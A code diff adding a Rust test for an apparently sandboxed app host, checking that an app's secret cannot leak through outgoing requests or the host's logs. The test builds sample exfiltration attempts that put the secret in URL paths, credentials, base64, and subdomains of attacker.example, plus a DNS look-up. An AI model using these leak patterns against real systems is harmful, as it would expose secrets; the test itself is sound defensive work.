@@ -145,6 +145,41 @@ fn heads_go_no_faster_than_the_rate_either() {
     server.until_alone();
 }
 
+#[test]
+fn no_secret_of_an_app_is_in_what_the_host_says_of_its_requests() {
+    let server = Elsewhere::http();
+    let port = server.port();
+    let destinations = [server.url("")];
+    let host = Host::start(|host| {
+        std::fs::write(host.folder().join("hush"), "hush-hush-4711").expect("the folder is ours");
+        let config = format!("{}[grant.secrets]\nHUSH = {{ file = 'hush' }}\n", grant(&destinations));
+        let host = host.config(&config).limit("outbound_time=300ms");
+        let sidecar = format!("{}secrets = ['HUSH']\n", super::ask(&destinations));
+        kinds().into_iter().fold(host, |host, (name, wasm)| host.app(name, wasm).sidecar(name, &sidecar))
+    });
+    let secret = "hush-hush-4711";
+    for (app, _) in kinds() {
+        for url in [
+            server.url(&format!("/{secret}/silent")),
+            server.url("/aHVzaC1odXNoLTQ3MTE/silent"),
+            format!("http://user:{secret}@127.0.0.1:{port}/"),
+            format!("http://{secret}.attacker.example/"),
+            format!("http://127.0.0.1:1/{secret}"),
+        ] {
+            let said = tries(&host, app, &format!("get,{url}"));
+            assert!(said.starts_with("error ErrorCode::"), "{app} {url}: {said}");
+        }
+        tries(&host, app, &format!("look-up,{secret}.attacker.example"));
+        host.log_contains(&format!(
+            "ended an outgoing request (GET http://127.0.0.1:{port}): more than limits.outbound_time"
+        ));
+        host.log_contains(&format!("refused an outgoing request (GET http://127.0.0.1:{port}): its target is not"));
+        host.log_contains("(GET http://(the secret HUSH).attacker.example)");
+    }
+    let is_told = |event: &tests::Event| event.message().contains("hush-hush") || event.message().contains("aHVzaC");
+    assert_eq!(host.log().all(is_told).iter().map(|event| event.message().to_owned()).collect::<Vec<_>>(), [""; 0]);
+}
+
 fn sorted(words: &str) -> String {
     let mut words: Vec<&str> = words.split(' ').collect();
     words.sort_unstable();
